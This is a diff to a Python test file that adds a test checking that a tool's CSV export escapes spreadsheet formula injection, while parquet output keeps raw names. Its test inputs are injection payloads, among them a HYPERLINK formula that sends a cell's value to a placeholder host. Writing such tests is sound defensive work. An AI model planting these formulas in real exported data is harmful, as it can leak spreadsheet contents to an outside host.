@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -123,3 +124,20 @@ def test_two_audits_are_compared(vflens: Run, refused: Refused, tmp_path: Path) 
     assert strict(vflens("compare", a, a, "--json").out)["equal"]
     (tmp_path / "c.json").write_text("{}", encoding="utf-8")
     assert "is no audit (subject: it is missing)" in refused(3, "compare", a, tmp_path / "c.json")
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("http://x/?"&A2)', "+1+A2", "-1+A2", "@SUM(A1)", "\t=A1", "\r=A1"]
+)
+def test_a_spreadsheet_runs_no_name_in_a_table(tmp_path: Path, name: str) -> None:
+    """Other parties choose names of columns, of themselves and of runs; a number stays one."""
+    error = replace(ERRORS[0], attack=name, subject=name, error=-1.5)
+    found = [FOUND._replace(column=name), FOUND._replace(column="-5")]
+    write_table(tmp_path / "t.csv", [Evidence(name, False, (name,), found=tuple(found), errors=(error,))])
+    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
+        rows = nonempty(list(csv.DictReader(file)))
+    assert {row["where"] for row in rows} == {f"'{name}"}
+    assert [row["column"] for row in rows] == [f"'{name}", "-5", ""]
+    assert (rows[2]["attack"], rows[2]["subject"], rows[2]["value"]) == (f"'{name}", f"'{name}", "-1.5")
+    write_table(tmp_path / "t.parquet", [Evidence(name, False, (name,), found=tuple(found), errors=())])
+    assert pq.read_table(tmp_path / "t.parquet")["column"].to_pylist() == [name, "-5"]
